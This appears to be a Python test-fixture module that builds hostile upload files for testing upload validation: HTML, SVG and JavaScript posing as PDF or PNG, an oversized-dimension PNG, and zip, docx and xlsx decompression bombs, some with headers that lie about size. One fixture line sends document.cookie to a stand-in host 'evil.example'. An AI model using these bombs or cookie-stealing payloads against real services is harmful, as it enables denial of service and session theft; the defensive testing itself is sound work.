"""Hostile files, built small and fast: each poses as something the upload points accept."""

import base64
import io
import lzma
import struct
import zipfile
import zlib
from functools import cache

GIB = 1024**3
CHUNK = 16 * 1024 * 1024


def tiny_pdf(text: str = "test") -> bytes:
    """A minimal but complete PDF (header, one page, trailer, %%EOF)."""
    return (
        "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        f"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n% {text}\n"
        "trailer<</Root 1 0 R>>\n%%EOF\n"
    ).encode("latin-1")


def png_bytes(size=(8, 8)) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", size, "white").save(buffer, format="PNG")
    return buffer.getvalue()


HTML_AS_PDF = b"<!DOCTYPE html><html><body><script>fetch('/admin/').then(r=>r.text())</script></body></html>"
SVG_AS_PNG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><rect/></svg>'
JS_AS_PNG = b"alert(document.cookie);\nnew Image().src='//evil.example/?'+document.cookie;\n"
# The PDF's body and %%EOF are there; only the header is not a PDF header.
PDF_WRONG_HEADER = b"%PDX-1.4" + tiny_pdf()[8:]


def _chunk(tag: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data))


def huge_png(width: int = 30000, height: int = 30000) -> bytes:
    """A PNG that declares 30000×30000 pixels (900 megapixels) in a few hundred bytes: a real
    decoder would need gigabytes to unpack it."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit greyscale
    rows = zlib.compressobj(9)
    data = rows.compress(b"\0" * (width + 1) * 16) + rows.flush()  # the first rows only
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


@cache
def _zeros_deflated(size: int) -> tuple[bytes, int]:
    """A raw deflate stream of `size` zero bytes and their CRC-32, without compressing all of
    them: a full flush makes each 16 MB block stand alone, so one block repeated is the stream."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(b"\0" * CHUNK) + compressor.flush(zlib.Z_FULL_FLUSH)
    crc, zero = 0, b"\0" * CHUNK
    for _ in range(size // CHUNK):
        crc = zlib.crc32(zero, crc)
    return block * (size // CHUNK) + b"\x03\x00", crc  # \x03\x00: an empty final block


# 1 GiB of zero bytes packed by bzip2 (785 bytes) and as a zip's LZMA member (its 9-byte header,
# then 151 KB of raw LZMA1, kept here packed once more by xz): made once by compressing the zeros
# (64 × 16 MB, bz2 level 9; LZMA1 fast mode, nice_len 273, 1 MiB dictionary), which takes a minute.
ZEROS_GIB_CRC = 1533330096
ZEROS_GIB_BZ2 = base64.b64decode(
    "QlpoOTFBWSZTWQ4J4t8BX45AAMAAAAggADCATUZCoCWpCoCXMUFZJlNZDgni3wFfjkAAwAAACCAAMIBNRkKgJakKgJcxQVkmU1kO"
    "CeLfAV+OQADAAAAIIAAwgE1GQqAlqQqAlzFBWSZTWQ4J4t8BX45AAMAAAAggADCATUZCoCWpCoCXMUFZJlNZDgni3wFfjkAAwAAA"
    "CCAAMIBNRkKgJakKgJcxQVkmU1kOCeLfAV+OQADAAAAIIAAwgE1GQqAlqQqAlzFBWSZTWQ4J4t8BX45AAMAAAAggADCATUZCoCWp"
    "CoCXMUFZJlNZDgni3wFfjkAAwAAACCAAMIBNRkKgJakKgJcxQVkmU1kOCeLfAV+OQADAAAAIIAAwgE1GQqAlqQqAlzFBWSZTWQ4J"
    "4t8BX45AAMAAAAggADCATUZCoCWpCoCXMUFZJlNZDgni3wFfjkAAwAAACCAAMIBNRkKgJakKgJcxQVkmU1kOCeLfAV+OQADAAAAI"
    "IAAwgE1GQqAlqQqAlzFBWSZTWQ4J4t8BX45AAMAAAAggADCATUZCoCWpCoCXMUFZJlNZDgni3wFfjkAAwAAACCAAMIBNRkKgJakK"
    "gJcxQVkmU1kOCeLfAV+OQADAAAAIIAAwgE1GQqAlqQqAlzFBWSZTWQ4J4t8BX45AAMAAAAggADCATUZCoCWpCoCXMUFZJlNZDgni"
    "3wFfjkAAwAAACCAAMIBNRkKgJakKgJcxQVkmU1kOCeLfAV+OQADAAAAIIAAwgE1GQqAlqQqAlzFBWSZTWQ4J4t8BX45AAMAAAAgg"
    "ADCATUZCoCWpCoCXMUFZJlNZDgni3wFfjkAAwAAACCAAMIBNRkKgJakKgJcxQVkmU1kOCeLfAV+OQADAAAAIIAAwgE1GQqAlqQqA"
    "lzFBWSZTWQ4J4t8BX45AAMAAAAggADCATUZCoCWpCoCXMUFZJlNZDgni3wFfjkAAwAAACCAAMIBNRkKgJakKgJcxQVkmU1lIfF/J"
    "AIpSyADAAAAEAAggADDMBSmmkSJDYUSJDxdyRThQkPaI5AI="
)
ZEROS_GIB_LZMA_XZ = base64.b64decode(
    "/Td6WFoAAATm1rRGAgAhARYAAAB0L+Wj4k/yAY5dAABhvHQH1eVImEQcdOJ85Rk3fvp2ZFSGJ5Lu4Dmw1GV4L6mdwAXtNHipex10"
    "XxnrNJGQuvI+HLOUzSi5EuDqI6hf+PhFPrYMw3I2983texFgRO2vDSyOeC7gbdnVUjsdLjDYiQ4czI3gByuZo3ibQENPjYKsuKuw"
    "LLvRvCW1S6tOxLxNfuuTAJYUuLixGLAe9PEeCBcSs++hj56q9xqzDhBdu4905GYxh3P8BPbBwrTC29MDhmqys2k3KTjTuLiNL/dG"
    "LCLxk+ssFwsme1rniETLdVUDldzWayMS02fd7CDd+0Z11kE9RZg+DstnF2yiU0E8KLDjOVNcaLu7JVUC9nejRBUyq5AUcRQz+pQG"
    "PTBl54ENYFTPQpsapNCUiU4SjeSNwIPUGcb4rHAMTEEUo/54/A6EZzpYpxX60FmLX7T8YRz8y7ENn8K7QKnKBp9Ta0J4CdTPekV+"
    "5+EUE05uEUwEaNVB9lAY4/YosDAuuIMzq+is0o9YF37BOhty+q0KwS0bqkK4Wt6hvg902wAAAAAATnytaLGh2oIAAaoD858JAEhh"
    "LI+xxGf7AgAAAAAEWVo="
)
ZEROS_GIB_LZMA_PROPS = bytes.fromhex("5d00001000")


def zeros_gib(method: int) -> bytes:
    """The member data of 1 GiB of zeros for zip method 12 (bzip2) or 14 (LZMA)."""
    if method == zipfile.ZIP_BZIP2:
        return ZEROS_GIB_BZ2
    props = ZEROS_GIB_LZMA_PROPS
    return struct.pack("<BBH", 9, 4, len(props)) + props + lzma.decompress(ZEROS_GIB_LZMA_XZ)


def zip_with_bomb(
    small: dict[str, bytes],
    bomb_name: str,
    size: int = GIB,
    declared: int | None = None,
    method: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """A zip of `small` members (stored deflated as usual) and one member `bomb_name` that unpacks
    to `size` zero bytes (1 GiB by default) from about a megabyte; `declared` makes its headers lie
    about the size; `method` packs the bomb with bzip2 or LZMA instead (then always 1 GiB)."""
    members = [
        (name, zlib.compress(data, 9)[2:-4], zlib.crc32(data), len(data), 8) for name, data in small.items()
    ]
    if method == zipfile.ZIP_DEFLATED:
        stream, crc = _zeros_deflated(size)
    else:
        stream, crc, size = zeros_gib(method), ZEROS_GIB_CRC, GIB
    members.append((bomb_name, stream, crc, size if declared is None else declared, method))
    out, central = io.BytesIO(), io.BytesIO()
    for name, data, crc, usize, packed_by in members:
        encoded = name.encode()
        offset = out.tell()
        version = 63 if packed_by == zipfile.ZIP_LZMA else 46 if packed_by == zipfile.ZIP_BZIP2 else 20
        fields = (version, 0, packed_by, 0, 0x21, crc, len(data), usize, len(encoded), 0)
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields) + encoded + data)
        central.write(
            struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, version, *fields, 0, 0, 0, 0, offset) + encoded
        )
    directory = central.getvalue()
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(directory), out.tell(), 0
    )
    return out.getvalue() + directory + end


CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
)


def docx_bomb() -> bytes:
    return zip_with_bomb({"[Content_Types].xml": CONTENT_TYPES}, "word/document.xml")


def lying_docx_bomb() -> bytes:
    """A 1 GiB member whose headers declare 4 KB: it passes a directory check."""
    return zip_with_bomb({"[Content_Types].xml": CONTENT_TYPES}, "word/document.xml", declared=4096)


def lying_xlsx_bomb(method: int) -> bytes:
    """An .xlsx whose sheet is 1 GiB of zeros packed by bzip2 or LZMA, its headers declaring 4 KB."""
    return zip_with_bomb(
        {"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": b"<workbook/>"},
        "xl/worksheets/sheet1.xml",
        declared=4096,
        method=method,
    )


def zip_with_method(method: int, main: str = "xl/workbook.xml") -> bytes:
    """A small Office-looking zip whose main part claims the compression `method` (e.g. 9, Deflate64)."""
    raw = zip_with_bomb({"[Content_Types].xml": CONTENT_TYPES}, main, size=0, declared=16)
    return raw.replace(b"\x08\x00\x00\x00\x21\x00", struct.pack("<HHH", method, 0, 0x21))


def xlsx_bomb() -> bytes:
    return zip_with_bomb(
        {"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": b"<workbook/>"}, "xl/worksheets/sheet1.xml"
    )


def docx_without_document() -> bytes:
    """A zip dressed as a Word file (content types, styles) without its main part."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("word/styles.xml", "<w:styles/>")
        archive.writestr("docProps/app.xml", "<Properties/>")
    return buffer.getvalue()


def oversize(limit: int) -> bytes:
    """A well-formed PDF just over `limit` bytes."""
    pdf = tiny_pdf()
    return pdf[:-7] + b"%" + b"0" * (limit - len(pdf) + 64) + b"\n%%EOF\n"
